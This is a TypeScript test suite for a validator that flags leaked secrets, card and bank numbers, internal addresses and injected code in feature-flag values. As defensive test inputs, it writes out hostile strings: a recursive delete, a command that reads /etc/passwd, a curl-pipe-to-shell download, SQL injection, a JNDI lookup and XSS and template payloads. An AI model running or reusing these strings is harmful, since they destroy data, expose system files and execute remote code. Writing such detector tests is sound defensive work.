import { exampleEnvelope, withDocument } from '../lib/examples/envelope.ts';
import { validateStanding } from '../lib/standing.ts';

/** The rules about safety that a variant's value breaks. */
const broken = (on: unknown, name = 'note'): readonly string[] => {
  const envelope = exampleEnvelope(withDocument({ variants: { on: { [name]: on }, off: { [name]: 'none' } } }));
  return validateStanding(envelope)
    .violations.map(({ ruleId }) => ruleId)
    .filter((id) => id.startsWith('FH-SAFE'));
};

const letters = (count: number): string => 'aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zAbCdEfGhIjKlMnOpQrStUvWxYz'.slice(0, count);

// Put together here, so that nothing in this file looks like a secret to those who search repositories for them.
it.each([
  ['AWS', `AKIA${'ABCDEFGHIJKLMNOP'}`],
  ['GitHub', `ghp_${letters(36)}`],
  ['GitLab', `glpat-${letters(20)}`],
  ['Slack', `xoxb-${letters(12)}`],
  ['Stripe', `sk_live_${letters(20)}`],
  ['Google', `AIza${letters(35)}`],
  ['npm', `npm_${letters(36)}`],
  ['SendGrid', `SG.${letters(22)}.${letters(43)}`],
  ['a web token', `eyJ${letters(20)}.eyJ${letters(20)}.${letters(20)}`],
  ['a key', `-----BEGIN RSA ${'PRIVATE'} KEY-----`],
  ['an address', `postgres://app:${letters(8)}@db.example.com/app`],
  ['a connection string', `Server=db;Password=${letters(8)};Encrypt=yes`],
])('finds the secret of %s, and does not repeat it', (_issuer, secret) => {
  expect(broken(`before ${secret} after`)).toContain('FH-SAFE-07');
  const envelope = exampleEnvelope(withDocument({ variants: { on: secret, off: 'none' } }));
  expect(JSON.stringify(validateStanding(envelope).violations)).not.toContain(secret);
});

it('finds what stands at the seam of two pieces of a long text', () => {
  const secret = `AKIA${'ABCDEFGHIJKLMNOP'}`;
  for (const before of [4_080, 4_090, 3_840, 7_676, 12_000]) {
    expect(broken(`${' '.repeat(before)}${secret}`)).toContain('FH-SAFE-07');
  }
});

it('finds card numbers however they are written, also as numbers', () => {
  for (const card of ['4111111111111111', '4111-1111-1111-1111', '5555 5555 5555 4444', 378282246310005]) {
    expect(broken(card)).toEqual(['FH-SAFE-10']);
  }
});

it.each([
  'Paid with 4111 1111 1111 1111.',
  '4111111111111111,5555555555554444',
  '4111 1111 1111 1111 12/27',
  'Paid with 4111.1111.1111.1111.',
  '6200000000000005',
  '6759649826438453',
  'until 12/27 4111-1111-1111-1111 by Mia',
  '2026 3782 822463 10005',
  '1 2 3 4111111111111111 7',
])('finds the card number in %s', (text) => {
  expect(broken(text)).toEqual(['FH-SAFE-10']);
});

it.each([
  '0.4111111111111111',
  '4006381333931',
  '4111.1111.1111.1111.1111',
  '4111111111111111.25',
  '1 4111111111111112 1',
  '1000 2000 3000 5000 8000',
])('takes no card number from %s', (text) => {
  expect(broken(text)).toEqual([]);
});

it.each([
  'Refund to DE89370400440532013000.',
  'see AB12 of the contract with DE89 3704 0044 0532 0130 00',
  'de89-3704-0044-0532-0130-00',
])('finds the bank account in %s', (text) => {
  expect(broken(text)).toEqual(['FH-SAFE-11']);
});

it.each([
  ['4111111111111111', 'FH-SAFE-10'],
  ['DE89370400440532013000', 'FH-SAFE-11'],
  ['mia@payments-bank.eu', 'FH-SAFE-12'],
  [`ghp_${letters(36)}`, 'FH-SAFE-07'],
])('finds what stands as the name of a member, and does not repeat it: %s', (name, id) => {
  expect(broken({ [name]: true })).toEqual([id]);
  const envelope = exampleEnvelope(withDocument({ variants: { on: { [name]: true }, off: { [name]: false } } }));
  const said = validateStanding(envelope).violations.filter(({ ruleId }) => ruleId === id);
  expect(JSON.stringify(said)).not.toContain(name);
});

it('finds addresses inside however they are written', () => {
  for (const host of ['10.0.3.7', '0xa.3', '2852039166', '169.254.169.254', '[fd00::1]']) {
    expect(broken(`see https://${host}/x`)).toEqual(['FH-SAFE-16']);
  }
  for (const address of ['redis://10.0.0.5', 'redis://10.0.0.5:6379/0', '//169.254.169.254/latest', '10.0.0.1:8080']) {
    expect(broken(address)).toEqual(['FH-SAFE-16']);
  }
});

it('warns of addresses of each caller’s own machine', () => {
  for (const host of ['127.0.0.1', '0x7f.1', '2130706433', '[::1]', 'LOCALHOST', 'localhost.', '0.0.0.0']) {
    expect(broken(`see https://${host}/x`)).toEqual(['FH-SAFE-21']);
  }
});

it('lets plain http pass where no open network lies between', () => {
  for (const host of ['ledger.payments.svc.cluster.local:8080', 'ledger.internal', 'intranet']) {
    expect(broken(`http://${host}/v1`)).toEqual([]);
  }
  expect(broken('http://ledger.bank.example/v1')).toEqual(['FH-SAFE-15']);
});

it.each([
  'Show the new payment form to customers in Germany and France.',
  'https://api.example.com/v2/rates?from=EUR&to=USD#today',
  'arn:aws:secretsmanager:eu-west-1:123456789012:secret:payments/stripe-AbCdEf',
  '9f86d081-884c-4d63-9a2f-e1f1d2a3b4c5',
  '2026-12-24T06:00:00Z',
  '1760000000000',
  '+1.5 %',
  'Pay now (3 instalments); no interest => ask us',
  'a < b and c > d',
  'Insert your card; delete is not possible',
  '{amount} will be debited on {date}',
  'M12 8c-2.2 0-4 1.8-4 4s1.8 4 4 4',
  'payments-instant-sepa-credit-transfer-inbound-v2',
  'mia@example.com',
  'Straße, café, 日本語, שלום, 👩‍🚀, 🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  'import duties, functions of the system, evaluation',
  'Telephone banking',
  'x < y once onset = 3',
  'EUR/USD | share of the day; rm is short for remainder',
  'Function(s) not available today',
  'Bonus function (beta) starts soon',
  'exec(utive) lounge',
  'eval(uation) of risks',
  'A => (B)',
  'AGB § 5; delete from your list',
  'SEPA (EUR) | sh-ip',
  'Click <link> to continue',
  'Rates from <%5',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'see git@github.com:open-feature/flagd.git',
  'support@bank.com',
  'Hilfe: kundenservice@bank.de',
  'Zahlungs\u00adverkehr',
  'שלום\u200f (ABC)',
])('lets pass: %s', (text) => {
  expect(broken(text)).toEqual([]);
});

it('takes digests and ids for what they are, whatever their names', () => {
  const digest = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';
  expect(broken(digest, 'sha256')).toEqual([]);
  expect(broken(digest, 'signature')).toEqual([]);
  expect(broken(digest, 'signingKey')).toEqual(['FH-SAFE-09']);
});

it('reads hostile texts of 90 KiB within its budget of steps', () => {
  for (const part of [
    'eyJ',
    'a@',
    '+4 ',
    '://a:',
    'DE89 ',
    '4 ',
    '${',
    '<',
    'a.',
    'x=',
    ' on',
    'http://',
    "' or ",
    '4111 ',
    'DE89',
    '<a on',
  ]) {
    const envelope = exampleEnvelope({ source: part.repeat(Math.floor(90_000 / part.length)) });
    expect(validateStanding(envelope).violations.map(({ ruleId }) => ruleId)).not.toContain('FH-RULES-02');
  }
});

it.each([
  "x'; DROP TABLE flags",
  "1' or 1=1",
  'id=1 UNION ALL SELECT b',
  '() => {',
  'require(x)',
  'x; rm -rf /',
  '$(cat /etc/passwd)',
  'curl https://api.example.com/x | sh',
])('finds code: %s', (text) => {
  expect(broken(text)).toEqual(['FH-SAFE-20']);
});

it.each([
  ['run `id` now', 'FH-SAFE-20'],
  ['x\r\nSet-Cookie: a=b', 'FH-SAFE-20'],
  ['<style>', 'FH-SAFE-18'],
  ['<video src=x>', 'FH-SAFE-18'],
  ['java\tscript:alert(1)', 'FH-SAFE-17'],
  ['Hello {{firstName}}', 'FH-SAFE-19'],
])('warns of %j as long as nobody says where it is used', (text, id) => {
  const envelope = exampleEnvelope(withDocument({ variants: { on: text, off: 'none' } }));
  expect(validateStanding(envelope).violations).toEqual([expect.objectContaining({ ruleId: id, severity: 'warning' })]);
});

const used = (format: string, on: string): readonly string[] => {
  const envelope = exampleEnvelope(withDocument({ variants: { on, off: 'none' }, metadata: { format } }));
  return validateStanding(envelope).violations.map(({ ruleId, severity }) => `${ruleId} ${severity}`);
};

it.each([
  ['html', '<style>'],
  ['html', '<a href="java\tscript:pay()">'],
  ['url', 'javascript:history.back()'],
  ['url', 'https://bank.example/%0d%0aSet-Cookie:a=b'],
  ['template', "{{constructor.constructor('pay()')()}}"],
  ['template', '{% import os %}'],
  // A logging library runs it wherever the text is used.
  ['text', `${'$'}{jndi:ldap://bank.example/a}`],
])('refuses in a text of the format %s what runs there: %s', (format, text) => {
  expect(used(format, text)).toContain('FH-SAFE-22 error');
});

it.each([
  ['text', '<script>pay()</script>'],
  ['template', 'Hello {{firstName}}, {{amount}} is due'],
  ['html', '<a href="https://bank.example/info"><b>Mehr</b></a>'],
  ['regex', '^(?:GET|POST) /api/v\\d+/(?<id>\\w+)$'],
])('lets pass in a text of the format %s what does not run there: %s', (format, text) => {
  expect(used(format, text)).toEqual([]);
});

it('warns of ids that pass for card numbers, and refuses the same under any other name', () => {
  for (const name of ['merchantId', 'merchantIds', 'terminal_id', 'orderNumber', 'ean'])
    expect(broken('4000123412341234', name)).toEqual(['FH-SAFE-24']);
  for (const name of ['note', 'customer', 'cardId']) expect(broken('4000123412341234', name)).toEqual(['FH-SAFE-10']);
});

it('judges card numbers of version 1 as version 1 did', () => {
  const versioned = (on: string) =>
    exampleEnvelope({ ...withDocument({ variants: { on, off: 'none' } }), rulesVersion: 1 });
  expect(validateStanding(versioned('6200000000000005')).violations).toEqual([]);
  expect(validateStanding(versioned('4111111111111111')).violations).toHaveLength(1);
});

it.each(['<video onplay=pay()>', '<details/open/ontoggle=pay()>', '<p\nonwheel = "pay()">'])(
  'finds markup that runs: %s',
  (text) => {
    expect(broken(text)).toEqual(['FH-SAFE-18']);
  },
);
